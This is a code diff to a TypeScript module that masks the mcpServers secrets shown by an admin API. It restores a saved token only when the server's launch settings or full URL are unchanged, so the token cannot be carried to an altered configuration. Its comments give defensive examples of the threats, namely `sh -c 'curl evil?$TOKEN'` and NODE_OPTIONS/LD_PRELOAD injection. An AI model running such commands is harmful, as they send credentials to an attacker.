@@ -1,14 +1,9 @@
 // The secrets of the mcpServers setting (env and header values) as the admin API shows and takes
 // them: masked going out, and a mask coming back kept only where the secret was given. A kept
 // secret never follows its server elsewhere: a save that changed github's command to
-// `sh -c 'curl evil?$TOKEN'` must not take GITHUB_TOKEN with it.
-import {
-  type McpHttpServer,
-  type McpServerConfig,
-  type McpServers,
-  type McpStdioServer,
-  serverPath,
-} from '../../contract/mcp-servers.ts';
+// `sh -c 'curl evil?$TOKEN'`, or only added NODE_OPTIONS=--require evil.cjs, must not take
+// GITHUB_TOKEN with it.
+import { type McpServerConfig, type McpServers, serverPath } from '../../contract/mcp-servers.ts';
 import { MASKED_SECRET } from '../../contract/net-policy.ts';
 
 const maskValues = (values: Record<string, string>) =>
@@ -27,9 +22,11 @@ function maskConfig(config: McpServerConfig): McpServerConfig {
 }
 
 /**
- * `servers` with each masked value put back from `current`: the same server name and key, while
- * the server keeps its command and args (stdio) or its URL's origin (HTTP). Any other mask is a
- * problem telling the user to type the value.
+ * `servers` with each masked value put back from `current`, where the server keeps its name and
+ * everything it is started or reached with but the masked values: command, args, cwd and the other
+ * env values (stdio), or URL and the other header values (HTTP). Else each mask is a problem
+ * telling the user to type the values: a kept token must not start beside an added NODE_OPTIONS,
+ * PATH or LD_PRELOAD, in another folder, or go to another tenant's path on the same host.
  */
 export function unmaskMcpServers(
   servers: McpServers,
@@ -38,64 +35,80 @@ export function unmaskMcpServers(
   const problems: string[] = [];
   const unmasked = Object.entries(servers).map(([name, config]) => {
     const saved = Object.hasOwn(current, name) ? current[name] : undefined;
-    const keep = (field: 'env' | 'headers', values: Record<string, string>, from?: Kept) =>
-      Object.fromEntries(
-        Object.entries(values).map(([key, value]) => {
-          if (value !== MASKED_SECRET) return [key, value];
-          const kept = from?.(key);
-          if (kept === undefined) problems.push(noValueToKeep(name, field, key));
-          return [key, kept ?? value];
-        }),
-      );
-    if ('command' in config) {
-      const { env } = config;
-      return [name, env ? { ...config, env: keep('env', env, keptEnv(config, saved)) } : config];
+    const field = 'command' in config ? 'env' : 'headers';
+    const values = 'command' in config ? config.env : config.headers;
+    const masked = Object.keys(values ?? {}).filter((key) => values?.[key] === MASKED_SECRET);
+    if (!values || masked.length === 0) return [name, config];
+    const kept = keptValues(config, saved);
+    if (!kept) {
+      problems.push(noValueToKeep(name, field, masked));
+      return [name, config];
     }
-    const { headers } = config;
-    return [
-      name,
-      headers
-        ? { ...config, headers: keep('headers', headers, keptHeaders(config, saved)) }
-        : config,
-    ];
+    const filled = Object.fromEntries(
+      Object.entries(values).map(([key, value]) => [
+        key,
+        value === MASKED_SECRET ? kept(key) : value,
+      ]),
+    );
+    return [name, { ...config, [field]: filled }];
   });
   return { servers: Object.fromEntries(unmasked), problems };
 }
 
-/** A saved value by its key, where one may be kept. */
-type Kept = (key: string) => string | undefined;
+/** A saved value by its key, given only once the whole launch was found unchanged. */
+type Kept = (key: string) => string;
 
-function keptEnv(config: McpStdioServer, saved: McpServerConfig | undefined): Kept | undefined {
-  if (!saved || !('command' in saved) || !saved.env) return undefined;
-  const sameArgs = JSON.stringify(saved.args ?? []) === JSON.stringify(config.args ?? []);
-  if (saved.command !== config.command || !sameArgs) return undefined;
-  const { env } = saved;
-  return (key) => (Object.hasOwn(env, key) ? env[key] : undefined);
-}
-
-function keptHeaders(config: McpHttpServer, saved: McpServerConfig | undefined): Kept | undefined {
-  if (!saved || !('url' in saved) || !saved.headers) return undefined;
-  if (originOf(saved.url) === undefined || originOf(saved.url) !== originOf(config.url)) {
-    return undefined;
+/** The saved values, where `config` starts or reaches its server as `saved` did but for masks. */
+function keptValues(config: McpServerConfig, saved: McpServerConfig | undefined): Kept | undefined {
+  if ('command' in config) {
+    if (!saved || !('command' in saved) || !saved.env || !config.env) return undefined;
+    const sameLaunch =
+      saved.command === config.command &&
+      JSON.stringify(saved.args ?? []) === JSON.stringify(config.args ?? []) &&
+      saved.cwd === config.cwd;
+    return sameLaunch ? sameValues(config.env, saved.env, (key) => key) : undefined;
   }
-  const { headers } = saved;
+  if (!saved || !('url' in saved) || !saved.headers || !config.headers) return undefined;
+  const place = placeOf(saved.url);
+  if (place === undefined || place !== placeOf(config.url)) return undefined;
   // Header names are case-insensitive, as for netHeaders.
-  return (key) => {
-    const name = Object.keys(headers).find((old) => old.toLowerCase() === key.toLowerCase());
-    return name === undefined ? undefined : headers[name];
-  };
+  return sameValues(config.headers, saved.headers, (key) => key.toLowerCase());
 }
 
-function originOf(url: string): string | undefined {
+/**
+ * A lookup of `saved`'s values when `sent` has exactly its keys (as `fold` compares them) and each
+ * value not masked is the saved one.
+ */
+function sameValues(
+  sent: Record<string, string>,
+  saved: Record<string, string>,
+  fold: (key: string) => string,
+): Kept | undefined {
+  const byKey = new Map(Object.entries(saved).map(([key, value]) => [fold(key), value]));
+  const keys = new Set(Object.keys(sent).map(fold));
+  if (keys.size !== byKey.size || [...keys].some((key) => !byKey.has(key))) return undefined;
+  const unchanged = Object.entries(sent).every(
+    ([key, value]) => value === MASKED_SECRET || value === byKey.get(fold(key)),
+  );
+  return unchanged ? (key) => byKey.get(fold(key)) ?? '' : undefined;
+}
+
+/** Where a URL sends its requests: origin, path and query (hosted gateways name tenants there). */
+function placeOf(url: string): string | undefined {
   try {
-    return new URL(url).origin;
+    const { origin, pathname, search } = new URL(url);
+    return `${origin}${pathname}${search}`;
   } catch {
     return undefined;
   }
 }
 
-function noValueToKeep(name: string, field: 'env' | 'headers', key: string): string {
-  const given = field === 'env' ? 'command and args' : "URL's origin";
-  const what = field === 'env' ? 'variable' : 'header';
-  return `mcpServers: ${serverPath(name)}.${field} ${JSON.stringify(key)} has no value to keep (a saved value stays with the server name, ${what} and ${given} it was given for): type it`;
+function noValueToKeep(name: string, field: 'env' | 'headers', keys: string[]): string {
+  const launch =
+    field === 'env'
+      ? 'variable, command, args, cwd and other env values'
+      : 'header, URL (origin, path and query) and other header values';
+  const which = keys.map((key) => JSON.stringify(key)).join(', ');
+  const one = keys.length === 1;
+  return `mcpServers: ${serverPath(name)}.${field} ${which} ${one ? 'has' : 'have'} no value to keep (a saved value stays with the server name, ${launch} it was given for): type ${one ? 'it' : 'them'}`;
 }
